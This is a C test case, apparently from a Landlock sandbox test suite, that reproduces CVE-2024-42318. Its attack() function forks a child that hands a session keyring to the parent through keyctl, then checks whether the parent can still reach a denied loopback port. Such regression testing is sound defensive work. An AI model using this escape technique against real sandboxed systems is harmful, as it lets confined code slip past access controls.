// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * G2. Gets fresh credentials: a child gives its session keyring to its parent, for which the
 * kernel builds the parent's credentials anew. They might have lost their domain. Source:
 * keyctl_session_to_parent(3), CVE-2024-42318 (Landlock). Control: the victim answers after it.
 */
#define _GNU_SOURCE
#include <linux/keyctl.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"
#include "talk.h"

void attack(void)
{
	struct sockaddr_in to = loopback(PORT_DENIED);
	int fd = new_socket(AF_INET, SOCK_STREAM, 0), status;
	pid_t child = fork();

	if (child == 0)
		_exit(syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL) < 0 ||
		      syscall(SYS_keyctl, KEYCTL_SESSION_TO_PARENT));
	if (child < 0 || waitpid(child, &status, 0) != child || status)
		broken("a session keyring for us");
	judge_connection(fd, &to, sizeof(to));
}
